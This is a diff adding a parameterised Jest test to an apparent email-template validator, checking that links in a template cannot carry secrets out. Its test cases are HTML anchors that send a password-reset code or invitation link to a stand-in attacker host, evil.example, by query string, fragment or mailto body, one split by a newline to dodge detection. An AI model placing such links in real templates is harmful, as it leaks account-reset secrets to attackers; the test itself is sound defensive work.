@@ -85,3 +85,14 @@ describe('a hostile letter', () => {
     expect(performance.now() - start).toBeLessThan(10_000);
   });
 });
+
+it.each([
+  '<a href="https://evil.example/?c=\n{{reset.code}}">Cancel</a>',
+  '<a href="https://evil.example/?c={{ reset.code }}">Cancel</a>',
+  '<a href="mailto:x@evil.example?body={{reset.code}}">Cancel</a>',
+  '<a href="https://evil.example/#{{invitation.link}}">Decline</a>',
+])('lets no code and no link of ours leave with a click: %j', (html) => {
+  expect(faultsOfMarkup(html)).toMatchObject([
+    { message: expect.stringMatching(/must not carry/) },
+  ]);
+});
